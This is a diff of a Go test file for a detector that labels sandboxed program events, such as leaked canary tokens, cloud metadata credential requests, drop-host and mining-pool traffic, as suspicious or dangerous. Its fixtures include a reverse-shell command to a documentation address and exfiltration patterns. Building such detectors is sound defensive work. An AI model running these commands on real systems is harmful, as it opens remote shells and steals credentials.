@@ -48,7 +48,7 @@ var project = []string{"/workspace/main.py", "/workspace/lib/a.py", "/workspace/
 
 func runOf(t testing.TB, kind Kind, events string) Run {
 	return Run{
-		Kind: kind, Language: gate.LanguagePython, Targets: []string{"/workspace/main.py"}, Input: len(project),
+		Kind: kind, Language: gate.LanguagePython, Internet: true, Targets: []string{"/workspace/main.py"}, Input: len(project),
 		Has: func(p string) bool { return slices.Contains(project, p) }, Seen: seen(t, events),
 	}
 }
@@ -97,8 +97,9 @@ func TestWhatBehaviourMeans(t *testing.T) {
 		{"a canary in a mail", Script, "mail a@example.com b@example.com {aws key}", []string{ruleSent.ID + dan, ruleMail.ID + sus}},
 		{"a canary in arguments", Script, "exec /usr/bin/x · x · secret {aws key (base64)}", []string{ruleSent.ID + dan}},
 		{"a canary in a packet to oneself", Script, "traffic 127.0.0.1:99 {aws key}", []string{ruleSent.ID + dan}},
-		{"a token with its own service", Script, "resolve A api.github.com\nrequest GET https://api.github.com/user {github token}", []string{ruleUsed.ID + not, ruleConnection.ID + not}},
+		{"a token with its own service", Script, "resolve A api.github.com\nrequest GET https://api.github.com/user (authorization token) {github token (plain)}", []string{ruleUsed.ID + not, ruleConnection.ID + not}},
 		{"a token with its own service during an import", Module, "resolve A api.github.com\nrequest GET https://api.github.com/user {github token}", []string{ruleConnection.ID + sus, ruleUsed.ID + sus}},
+		{"a token with an address that calls itself by the service's name", Script, "resolve A api.github.com\nconnect 192.0.2.1:443\nrequest GET https://api.github.com/user {github token}", []string{ruleSent.ID + dan, ruleAddress.ID + sus, ruleConnection.ID + not}},
 		{"another secret with that service", Script, "resolve A api.github.com\nrequest POST https://api.github.com/gists {github token, ssh rsa key}", []string{ruleSent.ID + dan, ruleConnection.ID + not}},
 		{"a service whose name was not looked up", Script, "request GET https://api.github.com/user {github token}", []string{ruleSent.ID + dan, ruleConnection.ID + not}},
 		{"a name that ends like the service's", Script, "resolve A evilgithub.com\nrequest GET https://evilgithub.com/ {github token}", []string{ruleSent.ID + dan, ruleConnection.ID + not}},
@@ -107,21 +108,23 @@ func TestWhatBehaviourMeans(t *testing.T) {
 		{"a canary that is where it was planted", Script, "leak /tmp/.npmrc {npm file token}", nil},
 		{"a canary on standard output", Script, "leak stdout {aws key}", []string{rulePrinted.ID + sus}},
 		// metadata
-		{"the metadata service", Script, "metadata /latest/meta-data/instance-id", []string{ruleMetadata.ID + sus}},
-		{"its credentials", Script, "metadata /latest/meta-data/iam/security-credentials/role", []string{ruleMetadata.ID + dan}},
+		{"the metadata service", Script, "metadata GET http://169.254.169.254/latest/meta-data/instance-id · 169.254.169.254:80", []string{ruleMetadata.ID + sus}},
+		{"its credentials", Script, "metadata PUT http://169.254.169.254/latest/api/token\nmetadata GET http://169.254.169.254/latest/meta-data/iam/security-credentials/role", []string{ruleMetadata.ID + dan}},
 		{"the metadata service by its address", Script, "connect 169.254.169.254:80", []string{ruleMetadata.ID + sus, ruleAddress.ID + sus, ruleConnection.ID + not}},
 		// network
-		{"a program fetches something", Script, "resolve A example.com\nconnect 198.51.100.7:443\nrequest GET https://example.com/", []string{ruleConnection.ID + not}},
-		{"an import fetches something", Module, "resolve A example.com\nconnect 198.51.100.7:443", []string{ruleConnection.ID + sus}},
+		{"a program fetches something", Script, "resolve A example.com\nconnect 198.18.3.7:443\nrequest GET https://example.com/", []string{ruleConnection.ID + not}},
+		{"an import fetches something", Module, "resolve A example.com\nconnect 198.18.3.7:443", []string{ruleConnection.ID + sus}},
 		{"an installation fetches something", Hook, "resolve A example.com", []string{ruleConnection.ID + sus}},
 		{"a test fetches something", Tests, "resolve A example.com", []string{ruleConnection.ID + sus}},
 		{"an address without a name", Script, "connect 192.0.2.1:4242", []string{ruleAddress.ID + sus, ruleConnection.ID + not}},
 		{"a question about data", Script, "resolve TXT 4a6f686e20446f65313233343536373839306162636465666768696a6b6c6d6e6f.x.example.com", []string{ruleDNS.ID + sus, ruleConnection.ID + not}},
+		{"a collector that does not answer", Script, "resolve A abc.onion: no such name", []string{ruleDropHost.ID + sus, ruleConnection.ID + not}},
+		{"a collector with remarks", Script, "request POST https://webhook.site/a%zz (authorization Bearer)", []string{ruleDropHost.ID + sus, ruleConnection.ID + not}},
 		{"a collector", Script, "resolve A abc.webhook.site", []string{ruleDropHost.ID + sus, ruleConnection.ID + not}},
-		{"a mail server", Script, "resolve A mx.example.com\nconnect 198.51.100.9:25", []string{ruleMail.ID + sus, ruleConnection.ID + not}},
-		{"a chat server", Script, "resolve A irc.example.com\nconnect 198.51.100.9:6667", []string{ruleService.ID + sus, ruleConnection.ID + not}},
-		{"a pool by its port", Script, "resolve A pool.example.com\nconnect 198.51.100.9:3333", []string{rulePool.ID + sus, ruleConnection.ID + not}},
-		{"a pool by its words", Script, "resolve A pool.example.com\ntraffic 198.51.100.9:443 <<<{\"id\":1,\"method\":\"mining.subscribe\"}", []string{rulePool.ID + dan, ruleConnection.ID + not}},
+		{"a mail server", Script, "resolve A mx.example.com\nconnect 198.18.3.7:25", []string{ruleMail.ID + sus, ruleConnection.ID + not}},
+		{"a chat server", Script, "resolve A irc.example.com\nconnect 198.18.3.7:6667", []string{ruleService.ID + sus, ruleConnection.ID + not}},
+		{"a pool by its port", Script, "resolve A pool.example.com\nconnect 198.18.3.7:3333", []string{rulePool.ID + sus, ruleConnection.ID + not}},
+		{"a pool by its words", Script, "resolve A pool.example.com\ntraffic pool.example.com:443 · tcp · <<<{\"id\":1,\"method\":\"mining.subscribe\"}", []string{rulePool.ID + dan, ruleConnection.ID + not}},
 		{"a port that is open during an import", Module, "bind 0.0.0.0:8080", []string{ruleListen.ID + sus}},
 		// commands
 		{"a shell at the end of a connection", Script, "exec /bin/bash · bash · -c · bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", []string{ruleReverseShell.ID + dan}},
@@ -311,7 +314,7 @@ func TestOrdinaryProgramsGiveNothingAboveANote(t *testing.T) {
 			connect 198.18.0.5:0
 			connect 198.18.0.5:443
 			request GET https://api.example.com/v1/items?page=2
-			traffic 198.18.0.5:443`},
+			traffic api.example.com:443 · tls`},
 		{"names that are only long", Script, gate.LanguagePython, `
 			resolve A my-company-internal-gateway.eu-central-1.elb.amazonaws.com
 			resolve A production-database-replica-two.cluster.example.com`},
